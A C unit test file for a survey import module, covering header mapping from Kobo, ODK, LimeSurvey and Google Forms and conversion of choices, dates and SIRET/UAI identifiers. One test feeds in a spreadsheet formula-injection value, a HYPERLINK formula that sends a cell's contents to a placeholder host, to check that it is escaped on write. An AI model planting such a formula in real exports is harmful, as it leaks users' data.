/* Unit tests of src/import/mapping: headers and cells as each collecting tool writes them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "import/mapping.h"

/* A small form with a group, a yes/no list, a select_multiple whose label holds a comma, a
 * repeat, identifiers and the types that spreadsheets write differently. */
static const char *FORM = "survey\n"
                          ",type,name,label\n"
                          ",start,start,\n"
                          ",begin_group,ident,Identification\n"
                          ",text,siret,Numéro SIRET du centre\n"
                          ",select_one communes,commune,Commune\n"
                          ",end_group,,\n"
                          ",select_one oui_non,travaille,Travaillez-vous avec une école ?\n"
                          ",select_multiple freins,freins,Qu'est-ce qui freine ?\n"
                          ",integer,effectif,Effectif\n"
                          ",decimal,budget,Budget\n"
                          ",date,debut,Date de début\n"
                          ",begin_repeat,partenaires,Partenaires\n"
                          ",text,partenaire_id,Numéro UAI\n"
                          ",text,note_libre,Remarque\n"
                          ",end_repeat,,\n"
                          "choices\n"
                          ",list_name,name,label\n"
                          ",oui_non,oui,Oui\n"
                          ",oui_non,non,Non\n"
                          ",communes,01001,L'Abergement-Clémenciat\n"
                          ",communes,95018,Argenteuil\n"
                          ",freins,temps,Manque de temps\n"
                          ",freins,accord,\"Un accord écrit (convention, charte)\"\n"
                          ",freins,autre,Autre\n"
                          "settings\n"
                          ",form_id\n"
                          ",centre_social\n";

typedef struct fixture {
    pn_form *form;
    pn_cells *cells;
    pn_strbuf out;
} fixture;

static int setup(void **state)
{
    fixture *fx = calloc(1, sizeof *fx);
    pn_error err = {0};
    fx->form = pn_form_load_text("form.csv", FORM, strlen(FORM), &err);
    if (fx->form == NULL) {
        fprintf(stderr, "%s\n", err.msg);
        return -1;
    }
    fx->cells = pn_cells_new(fx->form, NULL);
    *state = fx;
    return fx->cells ? 0 : -1;
}

static int teardown(void **state)
{
    fixture *fx = *state;
    pn_cells_destroy(fx->cells);
    pn_form_destroy(fx->form);
    pn_strbuf_release(&fx->out);
    free(fx);
    return 0;
}

static size_t qidx(const fixture *fx, const char *name)
{
    const pn_question *q = pn_form_find(fx->form, name);
    assert_non_null(q);
    return (size_t)(q - fx->form->q);
}

/* Map @header and check each column against @want: "kind:question[:choice]". */
static void expect_header(fixture *fx, const pn_map *map, pn_dialect d, size_t n,
                          const char *const *header, const char *const *want)
{
    pn_col cols[32];
    pn_error err = {0};
    assert_int_equal(pn_map_header(fx->form, map, d, n, (char *const *)header, cols, &err), PN_OK);
    static const char *const kinds[] = {"unmapped",  "ignored", "key", "parent",
                                        "submitted", "answer",  "tick"};
    for (size_t i = 0; i < n; i++) {
        char got[128];
        const pn_col *c = &cols[i];
        if (c->kind == PN_COL_ANSWER)
            snprintf(got, sizeof got, "answer:%s", fx->form->q[c->q].name);
        else if (c->kind == PN_COL_TICK)
            snprintf(got, sizeof got, "tick:%s:%s", fx->form->q[c->q].name,
                     fx->form->q[c->q].list->items[c->choice].name);
        else
            snprintf(got, sizeof got, "%s", kinds[c->kind]);
        if (strcmp(got, want[i]) != 0)
            fail_msg("column %zu '%s': expected %s, got %s", i + 1, header[i], want[i], got);
    }
}

static void kobo_header(void **state)
{
    fixture *fx = *state;
    const char *h[] = {"start",      "ident/siret",  "ident/commune",    "travaille",
                       "freins",     "freins/temps", "freins/accord",    "freins/autre",
                       "_id",        "_uuid",        "_submission_time", "_index",
                       "__version__"};
    const char *want[] = {"answer:start",
                          "answer:siret",
                          "answer:commune",
                          "answer:travaille",
                          "answer:freins",
                          "tick:freins:temps",
                          "tick:freins:accord",
                          "tick:freins:autre",
                          "ignored",
                          "key",
                          "submitted",
                          "ignored",
                          "ignored"};
    expect_header(fx, NULL, PN_DIALECT_KOBO, 13, h, want);
    assert_int_equal(pn_dialect_detect(13, (char *const *)h, "UTF-8", ';'), PN_DIALECT_KOBO);
    /* the repeat sheet, linked by the submission's uuid */
    const char *r[] = {"partenaires/partenaire_id", "partenaires/note_libre", "_index",
                       "_parent_table_name",        "_parent_index",          "_submission__uuid"};
    const char *rwant[] = {
        "answer:partenaire_id", "answer:note_libre", "ignored", "ignored", "ignored", "parent"};
    expect_header(fx, NULL, PN_DIALECT_KOBO, 6, r, rwant);
}

static void odk_and_labels_header(void **state)
{
    fixture *fx = *state;
    const char *h[] = {"SubmissionDate",  "ident-siret", "ident-commune", "freins/accord",
                       "meta-instanceID", "KEY",         "SubmitterID",   "ReviewState"};
    const char *want[] = {"submitted", "answer:siret", "answer:commune", "tick:freins:accord",
                          "key",       "key",          "ignored",        "ignored"};
    expect_header(fx, NULL, PN_DIALECT_ODK, 8, h, want);
    assert_int_equal(pn_dialect_detect(8, (char *const *)h, "UTF-8", ','), PN_DIALECT_ODK);
    pn_col cols[8];
    pn_error err = {0};
    assert_int_equal(pn_map_header(fx->form, NULL, PN_DIALECT_ODK, 8, (char *const *)h, cols, &err),
                     PN_OK);
    assert_true(cols[5].rank < cols[4].rank); /* KEY names the submission, not a version */

    /* labels, as Google Forms and Kobo's label export head them: case, accents, spacing */
    const char *l[] = {"Horodateur",
                       "NUMERO siret  du centre",
                       "Identification/Commune",
                       "travaillez-vous avec une ecole?",
                       "Qu’est-ce qui freine ? [Manque de temps]",
                       "Qu'est-ce qui freine ?/Un accord écrit (convention, charte)",
                       "Couleur"};
    const char *lwant[] = {"submitted",        "answer:siret",      "answer:commune",
                           "answer:travaille", "tick:freins:temps", "tick:freins:accord",
                           "unmapped"};
    expect_header(fx, NULL, PN_DIALECT_GOOGLE, 7, l, lwant);
    assert_int_equal(pn_dialect_detect(7, (char *const *)l, "UTF-8", ','), PN_DIALECT_GOOGLE);
}

static void limesurvey_header(void **state)
{
    fixture *fx = *state;
    const char *h[] = {"id",   "submitdate", "lastpage",      "startlanguage",
                       "seed", "startdate",  "freins[temps]", "freins_autre",
                       "Q1"};
    const char *want[] = {"key",     "submitted",    "ignored",           "ignored",
                          "ignored", "answer:start", "tick:freins:temps", "tick:freins:autre",
                          "unmapped"};
    expect_header(fx, NULL, PN_DIALECT_LIME, 9, h, want);
    assert_int_equal(pn_dialect_detect(9, (char *const *)h, "UTF-8 (BOM)", ';'), PN_DIALECT_LIME);
    /* outside LimeSurvey, 'id' is nobody's key */
    const char *want_plain[] = {"unmapped",          "submitted",         "unmapped",
                                "unmapped",          "unmapped",          "unmapped",
                                "tick:freins:temps", "tick:freins:autre", "unmapped"};
    expect_header(fx, NULL, PN_DIALECT_PLAIN, 9, h, want_plain);

    /* "full question text" headings, French as LimeSurvey's catalogue has them (mapping.c),
     * and English */
    const char *fr[] = {"ID de la réponse",
                        "Date de soumission",
                        "Dernière page",
                        "Langue de départ",
                        "Tête de série",
                        "Code d'accès",
                        "Date de lancement",
                        "Date de la dernière action",
                        "Adresse IP",
                        "URL référente",
                        "Temps total :",
                        "Durée pour le groupe : Identification",
                        "Durée pour la question: siret",
                        "Access code",
                        "Referrer URL",
                        "Group time: Freins",
                        "Question time: Q1",
                        "Code d'invitation"};
    const char *frwant[] = {"key",     "submitted", "ignored", "ignored", "ignored", "ignored",
                            "ignored", "ignored",   "ignored", "ignored", "ignored", "ignored",
                            "ignored", "ignored",   "ignored", "ignored", "ignored", "unmapped"};
    expect_header(fx, NULL, PN_DIALECT_LIME, 18, fr, frwant);
    assert_int_equal(pn_dialect_detect(18, (char *const *)fr, "UTF-8 (BOM)", ','), PN_DIALECT_LIME);
}

static void dialect_of_a_spreadsheet(void **state)
{
    (void)state;
    const char *h[] = {"siret", "commune"};
    assert_int_equal(pn_dialect_detect(2, (char *const *)h, "WINDOWS-1252", ';'), PN_DIALECT_EXCEL);
    assert_int_equal(pn_dialect_detect(2, (char *const *)h, "UTF-16LE", '\t'), PN_DIALECT_EXCEL);
    assert_int_equal(pn_dialect_detect(2, (char *const *)h, "UTF-8", ','), PN_DIALECT_PLAIN);
    pn_dialect d;
    assert_true(pn_dialect_parse("LimeSurvey", &d));
    assert_int_equal(d, PN_DIALECT_LIME);
    assert_false(pn_dialect_parse("spss", &d));
}

/* Convert @v for question @q and check the result kind and the value. */
static void expect_cell(fixture *fx, const char *q, const char *v, int kind, const char *want)
{
    int r = pn_cells_convert(fx->cells, qidx(fx, q), v, &fx->out);
    if (r != kind)
        fail_msg("%s '%s': expected result %d, got %d (%s)", q, v, kind, r,
                 pn_strbuf_str(&fx->out));
    if (want && strcmp(pn_strbuf_str(&fx->out), want) != 0)
        fail_msg("%s '%s': expected '%s', got '%s'", q, v, want, pn_strbuf_str(&fx->out));
}

static void choice_cells(void **state)
{
    fixture *fx = *state;
    expect_cell(fx, "travaille", "oui", PN_CELL_SAME, NULL);
    expect_cell(fx, "travaille", "Oui", PN_CELL_CONVERTED, "oui");
    expect_cell(fx, "travaille", " NON ", PN_CELL_CONVERTED, "non");
    expect_cell(fx, "travaille", "Yes", PN_CELL_CONVERTED, "oui");
    expect_cell(fx, "travaille", "Y", PN_CELL_CONVERTED, "oui");
    expect_cell(fx, "travaille", "1", PN_CELL_CONVERTED, "oui");
    expect_cell(fx, "travaille", "faux", PN_CELL_CONVERTED, "non");
    expect_cell(fx, "travaille", "peut-être", PN_CELL_UNMAPPED, NULL);
    expect_cell(fx, "commune", "ARGENTEUIL", PN_CELL_CONVERTED, "95018");
    expect_cell(fx, "commune", "l'abergement-clemenciat", PN_CELL_CONVERTED, "01001");
    /* a spreadsheet read 01001 as the number 1001 */
    expect_cell(fx, "commune", "1001", PN_CELL_CONVERTED, "01001");
    expect_cell(fx, "commune", "5018", PN_CELL_UNMAPPED, NULL);
    /* a yes/no spelling is not a commune */
    expect_cell(fx, "commune", "oui", PN_CELL_UNMAPPED, NULL);

    /* select_multiple: names in the list's order; labels joined with ", " */
    expect_cell(fx, "freins", "temps autre", PN_CELL_SAME, NULL);
    expect_cell(fx, "freins", "autre  temps", PN_CELL_CONVERTED, "temps autre");
    expect_cell(fx, "freins", "Un accord écrit (convention, charte), Manque de temps",
                PN_CELL_CONVERTED, "temps accord");
    expect_cell(fx, "freins", "Un accord écrit (convention, charte)", PN_CELL_CONVERTED, "accord");
    expect_cell(fx, "freins", "manque de temps, Autre", PN_CELL_CONVERTED, "temps autre");
    expect_cell(fx, "freins", "Manque de temps, Trop loin", PN_CELL_UNMAPPED, NULL);

    /* tick boxes */
    size_t fq = qidx(fx, "freins");
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "1"), 1);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "Y"), 1);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "Oui"), 1);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "Manque de temps"), 1);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, ""), 0);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "0"), 0);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "No"), 0);
    assert_int_equal(pn_cells_tick(fx->cells, fq, 0, "2"), -1);
}

static void number_date_ident_cells(void **state)
{
    fixture *fx = *state;
    expect_cell(fx, "effectif", "1234", PN_CELL_SAME, NULL);
    expect_cell(fx, "effectif", "1 234", PN_CELL_CONVERTED, "1234");
    expect_cell(fx, "effectif",
                "1\xE2\x80\xAF"
                "234",
                PN_CELL_CONVERTED, "1234");
    expect_cell(fx, "effectif", "12,5", PN_CELL_SAME, NULL); /* not a whole number: checked */
    expect_cell(fx, "budget", "12,5", PN_CELL_CONVERTED, "12.5");
    expect_cell(fx, "budget",
                "1\xC2\xA0"
                "234,75",
                PN_CELL_CONVERTED, "1234.75");
    expect_cell(fx, "budget", "12.5", PN_CELL_SAME, NULL);
    expect_cell(fx, "debut", "15/03/2026", PN_CELL_CONVERTED, "2026-03-15");
    expect_cell(fx, "debut", "5/3/2026", PN_CELL_CONVERTED, "2026-03-05");
    expect_cell(fx, "debut", "2026-03-15 00:00:00", PN_CELL_CONVERTED, "2026-03-15");
    expect_cell(fx, "debut", "2026-03-15", PN_CELL_SAME, NULL);
    expect_cell(fx, "debut", "15/13/2026", PN_CELL_SAME, NULL); /* left for the check */
    expect_cell(fx, "start", "15/03/2026 10:22", PN_CELL_CONVERTED, "2026-03-15T10:22:00");
    expect_cell(fx, "start", "15/03/2026 10:22:33", PN_CELL_CONVERTED, "2026-03-15T10:22:33");
    expect_cell(fx, "start", "2026-03-15 10:22:33", PN_CELL_CONVERTED, "2026-03-15T10:22:33");
    expect_cell(fx, "siret", "73282932000074", PN_CELL_SAME, NULL);
    expect_cell(fx, "siret", "732 829 320 00074", PN_CELL_CONVERTED, "73282932000074");
    expect_cell(fx, "siret", "73282932000079", PN_CELL_BAD,
                "'73282932000079' is not a valid SIRET: the Luhn check fails "
                "(a digit is probably mistyped)");
    expect_cell(fx, "siret", "7,32829E+13", PN_CELL_BAD, NULL);
    assert_non_null(
        strstr(pn_strbuf_str(&fx->out), "Excel has turned this identifier into a rounded number"));
    /* a centre's partner is a school: its UAI lost its leading zero in a spreadsheet */
    expect_cell(fx, "partenaire_id", "951099D", PN_CELL_CONVERTED, "0951099D");
    expect_cell(fx, "partenaire_id", "0951099A", PN_CELL_BAD, NULL);
    assert_non_null(strstr(pn_strbuf_str(&fx->out), "check letter should be D"));
    expect_cell(fx, "note_libre", "7,32829E+13", PN_CELL_SAME, NULL);
}

static char *write_file(const char *name, const char *text)
{
    static char path[256];
    snprintf(path, sizeof path, "/tmp/pn-test-mapping-%d-%s", (int)getpid(), name);
    FILE *out = fopen(path, "wb");
    assert_non_null(out);
    fputs(text, out);
    fclose(out);
    return path;
}

static void mapping_file(void **state)
{
    fixture *fx = *state;
    pn_error err = {0};
    pn_map map;
    /* as Excel on a French system saves it: Windows-1252, ';', CRLF */
    const char *path = write_file("map.csv", "type;dans_le_fichier;variable;choix;remarque\r\n"
                                             "colonne;Q1;siret;;\r\n"
                                             "colonne;Q5[SQ001];freins;temps;\r\n"
                                             "ignorer;lastpage;;;\r\n"
                                             "valeur;A1;commune;95018;Argenteuil\r\n"
                                             "valeur;Cl\xE9menciat;commune;01001;\r\n"
                                             "colonne;Q9;;;valeurs vues : 3\r\n");
    assert_int_equal(pn_map_load(&map, path, fx->form, &err), PN_OK);
    assert_int_equal(map.n, 6);
    assert_int_equal(pn_map_incomplete(&map), 1);
    assert_string_equal(map.e[4].source, "Clémenciat");
    const char *h[] = {"Q1", "Q5[SQ001]", "lastpage", "Q9"};
    const char *want[] = {"answer:siret", "tick:freins:temps", "ignored", "unmapped"};
    expect_header(fx, &map, PN_DIALECT_LIME, 4, h, want);
    pn_cells *cells = pn_cells_new(fx->form, &map);
    pn_strbuf out = PN_STRBUF_INIT;
    assert_int_equal(pn_cells_convert(cells, qidx(fx, "commune"), "A1", &out), PN_CELL_CONVERTED);
    assert_string_equal(pn_strbuf_str(&out), "95018");
    assert_int_equal(pn_cells_convert(cells, qidx(fx, "commune"), "Clémenciat", &out),
                     PN_CELL_CONVERTED);
    assert_string_equal(pn_strbuf_str(&out), "01001");
    pn_strbuf_release(&out);
    pn_cells_destroy(cells);

    /* entries added by an import, then the whole file written back and read again */
    assert_int_equal(pn_map_add(&map, PN_MAP_VALUE, "Peut-être; plus tard", "travaille",
                                "choix possibles : oui (Oui), non (Non)"),
                     PN_OK);
    assert_int_equal(pn_map_add(&map, PN_MAP_COLUMN, "Q9", "", "again"), PN_OK); /* there */
    /* a value that a spreadsheet would read as a formula: written with a leading ', read
     * back without it */
    assert_int_equal(pn_map_add(&map, PN_MAP_VALUE, "=HYPERLINK(\"http://x?d=\"&A1;\"x\")",
                                "travaille", "@SUM(1+1)"),
                     PN_OK);
    assert_int_equal(map.n, 8);
    char copy[256];
    snprintf(copy, sizeof copy, "%s.out", path);
    assert_int_equal(pn_map_write(&map, copy, &err), PN_OK);
    pn_map again;
    assert_int_equal(pn_map_load(&again, copy, fx->form, &err), PN_OK);
    assert_int_equal(again.n, 8);
    assert_string_equal(again.e[6].source, "Peut-être; plus tard");
    assert_string_equal(again.e[7].source, "=HYPERLINK(\"http://x?d=\"&A1;\"x\")");
    assert_string_equal(again.e[7].note, "@SUM(1+1)");
    {
        FILE *in = fopen(copy, "rb");
        char text[4096];
        size_t n = in ? fread(text, 1, sizeof text - 1, in) : 0;
        if (in)
            fclose(in);
        text[n] = '\0';
        assert_non_null(strstr(text, "\"'=HYPERLINK(\"\"http"));
        assert_non_null(strstr(text, ";'@SUM(1+1)\r\n"));
    }
    assert_string_equal(again.e[6].variable, "travaille");
    assert_string_equal(again.e[3].note, "Argenteuil");
    pn_map_release(&again);
    pn_map_release(&map);
    remove(copy);
    remove(path); /* the first mapping file: the cases below write another */

    /* errors name the line and the column */
    static const struct {
        const char *text, *msg;
    } bad[] = {
        {"type;source;variable;choice\ncolonne;Q1;couleur;;\n",
         ":2: column 'variable': 'couleur' is not a question of form 'centre_social'"},
        {"type;source;variable;choice\nvaleur;A9;commune;99999;\n",
         ":2: column 'choix': '99999' is not a choice of question 'commune'"},
        {"type;source;variable;choice\ncolonne;Q5;travaille;oui;\n",
         ":2: column 'choix': a tick-box column belongs to a select_multiple question"},
        {"type;source;variable;choice\nrenommer;Q1;siret;;\n",
         ":2: column 'type': expected colonne, ignorer or valeur, found 'renommer'"},
        {"type;source;variable;choice\nvaleur;A1;siret;x;\n",
         ":2: column 'variable': 'siret' is a text question"},
        {"variable;colonne\n", ":1: column 1: expected the header"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        path = write_file("bad.csv", bad[i].text);
        pn_error e = {0};
        assert_int_equal(pn_map_load(&map, path, fx->form, &e), PN_EINPUT);
        if (strstr(e.msg, bad[i].msg) == NULL)
            fail_msg("case %zu: expected '%s' in '%s'", i, bad[i].msg, e.msg);
    }
    remove(path);
}

/* Choices found through the indexes of pn_cells: a label two choices share matches neither,
 * a name in another ASCII case matches, unless two names differ only by case; a tick column
 * by a shared label goes to the first choice that has it, as it did with a scan. */
static void shared_labels_and_case(void **state)
{
    (void)state;
    static const char *const form = "survey\n"
                                    ",type,name,label\n"
                                    ",select_one avis,avis,Votre avis\n"
                                    ",select_multiple aides,aides,Aides reçues\n"
                                    "choices\n"
                                    ",list_name,name,label\n"
                                    ",avis,bien,Bien\n"
                                    ",avis,Assez,Moyen\n"
                                    ",avis,moyen2,Moyen\n"
                                    ",avis,Nsp,Je ne sais pas\n"
                                    ",avis,NSP,Ne se prononce pas\n"
                                    ",aides,caf,Autre\n"
                                    ",aides,ville,Autre\n"
                                    ",aides,etat,État\n"
                                    "settings\n"
                                    ",form_id\n"
                                    ",f\n";
    pn_error err = {0};
    fixture fx = {0};
    fx.form = pn_form_load_text("form.csv", form, strlen(form), &err);
    if (fx.form == NULL)
        fail_msg("%s", err.msg);
    fx.cells = pn_cells_new(fx.form, NULL);
    assert_non_null(fx.cells);
    expect_cell(&fx, "avis", "BIEN", PN_CELL_CONVERTED, "bien");   /* the label, folded */
    expect_cell(&fx, "avis", "assez", PN_CELL_CONVERTED, "Assez"); /* the name, any case */
    expect_cell(&fx, "avis", "ASSEZ", PN_CELL_CONVERTED, "Assez");
    expect_cell(&fx, "avis", "moyen", PN_CELL_UNMAPPED, NULL); /* two choices say Moyen */
    expect_cell(&fx, "avis", "nsp", PN_CELL_UNMAPPED, NULL);   /* Nsp or NSP */
    expect_cell(&fx, "avis", "NSP", PN_CELL_SAME, NULL);       /* by name, exactly */
    expect_cell(&fx, "avis", "ne se prononce pas", PN_CELL_CONVERTED, "NSP");
    expect_cell(&fx, "aides", "État, autre", PN_CELL_UNMAPPED, NULL);
    expect_cell(&fx, "aides", "etat", PN_CELL_SAME, NULL);
    const char *h[] = {"Aides reçues/Autre", "Aides reçues [État]"};
    const char *want[] = {"tick:aides:caf", "tick:aides:etat"};
    expect_header(&fx, NULL, PN_DIALECT_KOBO, 2, h, want);
    pn_cells_destroy(fx.cells);
    pn_form_destroy(fx.form);
    pn_strbuf_release(&fx.out);
}

/* The header matched through the form's indexes gives what trying every question gave:
 * names with a '-', paths with '/', '-' or both, a label two questions share (left to the
 * mapping file), tick columns by name and by label, and cells that only look like them. */
static void header_through_indexes(void **state)
{
    (void)state;
    static const char *const form = "survey\n"
                                    ",type,name,label,calculation\n"
                                    ",begin_group,g,Groupe\n"
                                    ",text,a-b,Question A\n"
                                    ",select_multiple aides,m,Aides\n"
                                    ",end_group,,\n"
                                    ",text,b,Question B\n"
                                    ",begin_group,h,Autre groupe\n"
                                    ",text,b2,Même libellé\n"
                                    ",text,c,Même libellé\n"
                                    ",calculate,calc,Question B,1\n"
                                    ",end_group,,\n"
                                    ",select_multiple aides,n,Soutiens\n"
                                    "choices\n"
                                    ",list_name,name,label\n"
                                    ",aides,x,Argent\n"
                                    ",aides,y,Locaux\n"
                                    "settings\n"
                                    ",form_id\n"
                                    ",f\n";
    pn_error err = {0};
    fixture fx = {0};
    fx.form = pn_form_load_text("form.csv", form, strlen(form), &err);
    if (fx.form == NULL)
        fail_msg("%s", err.msg);
    const char *h[] = {"g/a-b",        "g-a-b",
                       "a-b",          "g/m/x",
                       "g-m-y",        "m[x]",
                       "m_y",          "g/m-x",
                       "Même libellé", "h/b2",
                       "x/b",          "question b",
                       "Aides/Locaux", "Soutiens [Argent]",
                       "n/z",          "g",
                       "g/m",          "Groupe/Aides/Argent"};
    const char *want[] = {"answer:a-b", "answer:a-b", "answer:a-b", "tick:m:x", "tick:m:y",
                          "tick:m:x",   "tick:m:y",   "tick:m:x",   "unmapped", "answer:b2",
                          "unmapped",   "answer:b",   "tick:m:y",   "tick:n:x", "unmapped",
                          "unmapped",   "answer:m",   "tick:m:x"};
    expect_header(&fx, NULL, PN_DIALECT_KOBO, sizeof h / sizeof h[0], h, want);
    pn_form_destroy(fx.form);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(kobo_header, setup, teardown),
        cmocka_unit_test_setup_teardown(odk_and_labels_header, setup, teardown),
        cmocka_unit_test_setup_teardown(limesurvey_header, setup, teardown),
        cmocka_unit_test_setup_teardown(dialect_of_a_spreadsheet, setup, teardown),
        cmocka_unit_test_setup_teardown(choice_cells, setup, teardown),
        cmocka_unit_test_setup_teardown(number_date_ident_cells, setup, teardown),
        cmocka_unit_test_setup_teardown(mapping_file, setup, teardown),
        cmocka_unit_test(shared_labels_and_case),
        cmocka_unit_test(header_through_indexes),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
